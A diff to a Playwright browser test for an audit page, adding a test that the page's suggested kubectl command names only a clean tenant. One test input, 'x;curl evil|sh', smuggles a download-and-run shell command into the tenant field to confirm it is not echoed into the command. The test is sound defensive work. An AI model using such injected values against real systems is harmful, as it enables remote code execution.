@@ -10,7 +10,7 @@ from playwright.sync_api import Locator, Page, expect
 from app.core.audit.codec import entry_line
 from app.core.audit_entry import AuditRecord, EntryType, Fact, seal
 from tests.browser.conftest import Opens
-from tests.browser.signed_in import LED, QUICK, live
+from tests.browser.signed_in import LED, QUICK, go, live
 from tests.fakes.fake_api_cluster import (
     NOW,
     ApiCluster,
@@ -141,6 +141,18 @@ def test_without_entries_the_view_names_the_filters_and_clears_them(
     assert page.url.endswith("#/audit?minutes=60")
     page.go_back()
     expect(page.get_by_text(told)).to_be_visible()
+
+
+def test_the_command_names_a_tenant_but_no_other_text_of_the_address(
+    opens: Opens, town: ApiCluster, place: Served
+) -> None:
+    town.rights.granted |= {("get", "audit")}
+    page = live(opens, place, "audit?tenant=vision", now=NOW)
+    expect(page.get_by_text("kubectl fairgate audit --tenant vision")).to_be_visible()
+    go(page, "audit?tenant=x;curl%20evil|sh")
+    expect(page.get_by_text("No entry about tenant x;curl evil|sh")).to_be_visible()
+    expect(page.get_by_text("Only entries about this tenant itself")).to_be_visible()
+    expect(page.get_by_text("--tenant")).to_have_count(0)
 
 
 # --- rights ---
